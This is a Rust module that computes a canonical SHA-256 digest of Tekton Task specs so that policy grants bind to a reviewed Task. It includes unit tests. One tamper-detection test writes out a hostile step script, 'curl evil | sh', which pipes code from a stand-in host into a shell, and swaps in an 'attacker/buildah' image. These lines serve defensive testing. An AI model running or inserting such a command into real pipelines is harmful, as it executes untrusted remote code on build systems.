//! The digest of a Tekton Task's content, which binds a policy's grant to
//! the Task a platform team reviewed (`spec.taskDigests`).
//!
//! `sha256:` and the hex SHA-256 of the Task's `spec` in canonical JSON:
//! object keys sorted, no insignificant whitespace, strings escaped as
//! `serde_json` writes them. Before hashing, the fields Tekton's defaulting
//! webhook fills in on a real cluster are filled in the same way (a
//! parameter's or result's `type` is `string` unless its default or its
//! `properties` say otherwise), so the digest of a Task file and of the
//! Task the cluster stores agree. Metadata is not part of the digest: the
//! operator's own pin lives there, and the pod-level annotations that
//! matter are the ones the operator sets.

use serde_json::{Map, Value};
use sha2::{Digest as _, Sha256};

/// Prefix of every digest.
pub const PREFIX: &str = "sha256:";

/// The digest of a Task `spec` (`Value::Null` for a Task without one).
pub fn task_spec_digest(spec: &Value) -> String {
    let mut normalized = spec.clone();
    fill_tekton_defaults(&mut normalized);
    let mut canonical = String::new();
    write_canonical(&normalized, &mut canonical);
    let hash = Sha256::digest(canonical.as_bytes());
    let hex: String = hash.iter().map(|b| format!("{b:02x}")).collect();
    format!("{PREFIX}{hex}")
}

/// Whether `digest` is written as this module writes digests.
pub fn is_well_formed(digest: &str) -> bool {
    digest.strip_prefix(PREFIX).is_some_and(|hex| {
        hex.len() == 64
            && hex
                .bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

/// Tekton's `ParamSpec` and `TaskResult` defaulting: `type` is `array`
/// or `object` when the default value is one, `object` when `properties`
/// is set, `string` otherwise; each property's `type` is `string` unless set.
fn fill_tekton_defaults(spec: &mut Value) {
    let Some(spec) = spec.as_object_mut() else {
        return;
    };
    for list in ["params", "results"] {
        let Some(items) = spec.get_mut(list).and_then(Value::as_array_mut) else {
            continue;
        };
        for item in items.iter_mut().filter_map(Value::as_object_mut) {
            if item.get("type").is_none_or(|t| t.as_str() == Some("")) {
                let inferred = match item.get("default") {
                    Some(Value::Array(_)) => "array",
                    Some(Value::Object(_)) => "object",
                    _ if item.contains_key("properties") => "object",
                    _ => "string",
                };
                item.insert("type".into(), Value::String(inferred.into()));
            }
            if let Some(properties) = item.get_mut("properties").and_then(Value::as_object_mut) {
                for property in properties.values_mut().filter_map(Value::as_object_mut) {
                    property
                        .entry("type")
                        .or_insert_with(|| Value::String("string".into()));
                }
            }
        }
    }
}

fn write_canonical(value: &Value, out: &mut String) {
    match value {
        Value::Object(map) => write_object(map, out),
        Value::Array(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                write_canonical(item, out);
            }
            out.push(']');
        }
        scalar => out.push_str(&scalar.to_string()),
    }
}

fn write_object(map: &Map<String, Value>, out: &mut String) {
    let mut keys: Vec<&String> = map.keys().collect();
    keys.sort();
    out.push('{');
    for (i, key) in keys.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&Value::String(key.clone()).to_string());
        out.push(':');
        write_canonical(&map[key], out);
    }
    out.push('}');
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn buildah() -> Value {
        json!({
            "params": [{"name": "IMAGE", "description": "where to push"}],
            "steps": [{"name": "build", "image": "buildah", "script": "buildah bud ."}],
        })
    }

    #[test]
    fn the_same_content_in_another_key_order_or_layout_has_the_same_digest() {
        let reordered: Value = serde_json::from_str(
            r#"{"steps": [{"script": "buildah bud .", "image": "buildah", "name": "build"}],
                "params": [{"description": "where to push", "name": "IMAGE"}]}"#,
        )
        .unwrap();
        assert_eq!(task_spec_digest(&buildah()), task_spec_digest(&reordered));
        assert!(is_well_formed(&task_spec_digest(&buildah())));
    }

    #[test]
    fn tektons_defaulted_types_do_not_change_the_digest() {
        let mut defaulted = buildah();
        defaulted["params"][0]["type"] = json!("string");
        assert_eq!(task_spec_digest(&buildah()), task_spec_digest(&defaulted));
        // An explicit type other than the default is content.
        defaulted["params"][0]["type"] = json!("array");
        assert_ne!(task_spec_digest(&buildah()), task_spec_digest(&defaulted));
        let array = json!({"params": [{"name": "ARGS", "default": ["a"]}]});
        let typed = json!({"params": [{"name": "ARGS", "default": ["a"], "type": "array"}]});
        assert_eq!(task_spec_digest(&array), task_spec_digest(&typed));
    }

    #[test]
    fn any_change_to_a_step_changes_the_digest() {
        let mut edited = buildah();
        edited["steps"][0]["script"] = json!("buildah bud . && curl evil | sh");
        assert_ne!(task_spec_digest(&buildah()), task_spec_digest(&edited));
        let mut image = buildah();
        image["steps"][0]["image"] = json!("attacker/buildah");
        assert_ne!(task_spec_digest(&buildah()), task_spec_digest(&image));
    }

    #[test]
    fn known_vectors_of_sha256sum() {
        // `printf '%s' '{"steps":[]}' | sha256sum`, and the same for the
        // canonical form of the Task below, its param's type defaulted.
        assert_eq!(
            task_spec_digest(&json!({"steps": []})),
            "sha256:4430e7786edc0f8419f02e909c15422ebf572287a58132d8f6f33250ce053121"
        );
        let task = json!({"steps": [{"name": "build", "image": "buildah"}], "params": [{"name": "IMAGE"}]});
        assert_eq!(
            task_spec_digest(&task),
            "sha256:c8fb58d1272a91a6281273af45799caad89584ce6ed4b89bfc0085594bdc914d"
        );
    }

    #[test]
    fn malformed_digests_are_told_apart() {
        for bad in ["sha256:abc", "sha512:00", "SHA256:", "sha256:ZZ"] {
            assert!(!is_well_formed(bad), "{bad}");
        }
    }
}
